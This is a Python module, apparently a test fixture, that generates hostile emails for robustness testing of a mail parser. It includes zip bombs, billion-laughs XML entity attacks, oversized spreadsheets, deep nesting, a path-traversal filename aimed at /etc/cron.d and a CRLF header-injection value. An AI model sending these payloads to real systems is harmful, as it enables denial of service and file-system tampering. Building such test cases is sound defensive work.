"""Mails made to harm whoever reads them, each by its name. All are made when asked for, none is kept."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from typing import Final

XLSX: Final = "vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODS: Final = "vnd.oasis.opendocument.spreadsheet"
DOCX: Final = "vnd.openxmlformats-officedocument.wordprocessingml.document"
_MEGABYTE: Final = 2**20
_SHEET: Final = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_BOOK: Final = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/>'
    "</sheets></workbook>",
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>',
}


def mail(content: bytes, kind: str = "octet-stream", name: str = "fil.bin") -> bytes:
    """A mail with one file."""
    message = EmailMessage()
    message["Subject"], message["Message-ID"] = "Underretning", "<fjendtlig@x.example>"
    message.set_content("Se filen.")
    message.add_attachment(content, "application", kind, filename=name)
    return message.as_bytes()


def zipped(members: dict[str, str | bytes]) -> bytes:
    """A zip archive."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return packed.getvalue()


def workbook(sheet: str, **further: str | bytes) -> bytes:
    """A mail with a workbook whose one sheet has this XML."""
    return mail(zipped({**_BOOK, "xl/worksheets/sheet1.xml": sheet, **further}), XLSX, "liste.xlsx")


def flat_bomb() -> bytes:
    """A gigabyte of zeros in a megabyte."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file,
        file.open("liste.csv", "w", force_zip64=True) as to,
    ):
        for _ in range(1024):
            to.write(bytes(_MEGABYTE))
    return mail(packed.getvalue(), "zip", "liste.zip")


def nested_bomb() -> bytes:
    """Ten archives in each of ten archives, six deep."""
    inner = zipped({"nul.csv": bytes(10 * _MEGABYTE)})
    for _ in range(6):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return mail(inner, "zip", "liste.zip")


def overlapping_bomb(members: int = 900, size: int = 20 * _MEGABYTE) -> bytes:
    """Many members that share one compressed kernel: each inflates to all of it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(size)) + packer.flush()
    crc = zlib.crc32(bytes(size))
    fields = (20, 0, 8, 0, 0, crc, len(kernel), size)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields, 1, 0) + b"0"
    central = b"".join(
        struct.pack("<4sH5H3I5H2I", b"PK\x01\x02", 20, *fields, 5, 0, 0, 0, 0, 0, 0) + f"{n:05d}".encode()
        for n in range(members)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, members, members, len(central), len(local) + len(kernel), 0)
    return mail(local + kernel + central + end, "zip", "liste.zip")


def billion_laughs(root: str = "lol") -> str:
    """Entities of entities: ten to the ninth."""
    lols = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{lols}]><{root}>&l9;</{root}>'


def quadratic() -> str:
    """One long entity, many times."""
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]><a>{"&x;" * 50_000}</a>'


def million_rows() -> bytes:
    """A workbook of a million rows with one cell each."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 1_000_001))
    return workbook(f"{_SHEET}{rows}</sheetData></worksheet>")


def million_columns() -> bytes:
    """One row of a million cells, none of which says where it stands."""
    return workbook(f'{_SHEET}<row r="1">{"<c><v>1</v></c>" * 1_000_000}</row></sheetData></worksheet>')


def million_ods(rows: int, columns: int) -> bytes:
    """A sheet whose one cell is repeated."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<office:document-content xmlns:office="{names}:office:1.0" xmlns:table="{names}:table:1.0" '
        f'xmlns:text="{names}:text:1.0"><office:body><office:spreadsheet><table:table table:name="A"><table:table-row '
        f'table:number-rows-repeated="{rows}"><table:table-cell office:value-type="string" '
        f'table:number-columns-repeated="{columns}"><text:p>x</text:p></table:table-cell></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        f'<manifest:manifest xmlns:manifest="{names}:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="application/{ODS}"/><manifest:file-entry manifest:full-path="content.xml" '
        'manifest:media-type="text/xml"/></manifest:manifest>'
    )
    members = {"mimetype": f"application/{ODS}", "content.xml": content, "META-INF/manifest.xml": manifest}
    return mail(zipped({**members}), ODS, "liste.ods")


def nested_mails(depth: int) -> bytes:
    """Mails in mails."""
    inner = b"Subject: inderst\n\nMikkel Toft, cpr-nr. 140310-6069, er sigtet for vold."
    for level in range(depth):
        head = f"Subject: {level}\nContent-Type: multipart/mixed; boundary=b{level}\n\n--b{level}\n".encode()
        inner = head + b"Content-Type: message/rfc822\n\n" + inner + f"\n--b{level}--\n".encode()
    return inner


def html(markup: str) -> bytes:
    """A mail that is a page."""
    return b"Subject: Underretning\nContent-Type: text/html; charset=utf-8\n\n" + markup.encode()


def text(words: str) -> bytes:
    """A mail that is a text."""
    return b"Subject: Underretning\nContent-Type: text/plain; charset=utf-8\n\n" + words.encode()


def boundaries(parts: int) -> bytes:
    """Multiparts that each hold another of the same boundary, and many lines that nearly are one."""
    head = b"Content-Type: multipart/mixed; boundary=b\n\n"
    return head + (b"--b\n" + head) * parts + b"--bx\n" * 100_000


def _csv(lines: str) -> bytes:
    return mail(lines.encode(), "csv", "liste.csv")


#: Name → the mail.
HOSTILE: Final[dict[str, Callable[[], bytes]]] = {
    "zip bomb, flat": flat_bomb,
    "zip bomb, nested": nested_bomb,
    "zip bomb, overlapping": overlapping_bomb,
    "xlsx, billion laughs": lambda: workbook(billion_laughs("worksheet")),
    "xlsx, quadratic entities": lambda: workbook(quadratic()),
    "docx, billion laughs": lambda: mail(zipped({"word/document.xml": billion_laughs()}), DOCX, "brev.docx"),
    "svg, billion laughs": lambda: mail(billion_laughs("svg").encode(), "svg+xml", "billede.svg"),
    "xlsx, million rows": million_rows,
    "xlsx, million columns": million_columns,
    "xlsx, inflates to 1 GB": lambda: workbook(_SHEET, **{"xl/media/a.bin": bytes(1024 * _MEGABYTE)}),
    "ods, million rows": lambda: million_ods(1_048_576, 1),
    "ods, million columns": lambda: million_ods(1, 1_000_000),
    "ods, both": lambda: million_ods(1_048_576, 16_384),
    "csv, million rows": lambda: _csv("Navn;CPR-nr.;Sigtelse\n" + "Mikkel Toft;140310-6069;vold\n" * 1_000_000),
    "csv, million columns": lambda: _csv("Navn;CPR-nr." + ";x" * 1_000_000 + "\nMikkel Toft;140310-6069"),
    "csv, quotes": lambda: _csv('Navn;CPR-nr.\n"' + '""' * 2_000_000),
    "mails nested 500 deep": lambda: nested_mails(500),
    "mails nested 5,000 deep": lambda: nested_mails(5_000),
    "25 MB of zeros": lambda: mail(bytes(25 * _MEGABYTE), "pdf", "scan.pdf"),
    "25 MB called xlsx": lambda: mail(b"PK\x03\x04" + b"x" * (25 * _MEGABYTE), XLSX, "liste.xlsx"),
    "25 MB of text": lambda: text("Mikkel Toft, cpr-nr. 140310-6069, er sigtet for vold.\n" * 460_000),
    "25 MB of base64 that is none": lambda: b"Content-Transfer-Encoding: base64\n\n" + b"=?*\n" * 6_500_000,
    "path traversal": lambda: mail(b"Navn;CPR-nr.\nMikkel Toft;140310-6069", "csv", "../../../../etc/cron.d/liste.csv"),
    "CRLF in a header": lambda: b"Subject: =?utf-8?q?a=0D=0ABcc:_x=40y.example?=\n\nHej",
    "HTML, 100,000 deep": lambda: html("<div>" * 100_000),
    "HTML, rows not closed": lambda: html("<table>" + "<tr><td>x" * 20_000),
    "HTML, tables in tables": lambda: html("<table><tr><td>" * 20_000),
    "HTML, attributes": lambda: html("<a " + "x " * 1_000_000),
    "HTML, comments": lambda: html("<!--" * 300_000),
    "HTML, spans": lambda: html('<table><tr><td rowspan="999999" colspan="999999">x' * 500),
    "digits": lambda: text("1" * 100_000),
    "blanks": lambda: text("Navn:" + " " * 90_000 + "x"),
    "capitals": lambda: text("Aa " * 33_000),
    "hyphens": lambda: text("Aa-" * 33_000),
    "brackets": lambda: text("(" * 99_000),
    "quote marks": lambda: text("> " * 49_000),
    "labels": lambda: text("Navn: " * 16_000),
    "numbers without end": lambda: text("140310-6069 " * 8_000),
    "header of 10 MB": lambda: b"Subject: " + b"=?utf-8?q?x?= " * 700_000 + b"\n\nHej",
    "a million headers": lambda: b"X-A: b\n" * 1_000_000 + b"\nHej",
    "addresses": lambda: b"From: " + b"(" * 200_000 + b"\nDate: " + b"(" * 200_000 + b"\n\nHej",
    "boundaries": lambda: boundaries(5_000),
    "NULs": lambda: bytes(5 * _MEGABYTE),
    "not base64": lambda: b"Content-Transfer-Encoding: base64\n\n" + base64.b64encode(b"Navn")[:-1] + b"!",
}
